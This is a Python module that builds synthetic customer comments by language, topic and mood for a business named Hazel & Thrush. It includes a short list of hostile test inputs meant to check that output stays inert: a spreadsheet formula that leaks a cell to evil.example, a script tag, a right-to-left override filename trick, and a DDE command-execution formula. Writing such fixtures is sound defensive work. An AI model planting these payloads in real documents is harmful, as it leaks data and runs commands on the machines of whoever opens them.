"""What customers of Hazel & Thrush write: sentences by language, topic and mood, combined here."""

from __future__ import annotations

from functools import cache
from pathlib import Path
from random import Random

import yaml

# Comments that try something; pages, letters and spreadsheets must show them as they are and do nothing.
HOSTILE = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your refund")',
    "<script>alert('sofa')</script><b>Very</b> disappointed & <i>angry</i>",
    "The delivery note said \u202egnp.erutangis\u202c and nobody could explain it",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@cache
def sentences(language: str) -> dict[str, dict[str, list[str]]]:
    """Read the sentences of a language: topic (and `tail`), mood (good, middle, bad), sentences."""
    path = Path(__file__).parent / f"{language}.yml"
    content: dict[str, dict[str, list[str]]] = yaml.safe_load(path.read_text(encoding="utf-8"))
    return content


def comment(random: Random, language: str, topic: str, mood: str) -> str:
    """Combine a sentence about the topic with a closing one, or leave it alone."""
    said = sentences(language)
    stop = "。" if language == "zh" else "."
    first = random.choice(said[topic][mood])
    if random.random() < 0.3:
        return first
    return f"{first}{stop}{'' if language == 'zh' else ' '}{random.choice(said['tail'][mood])}"
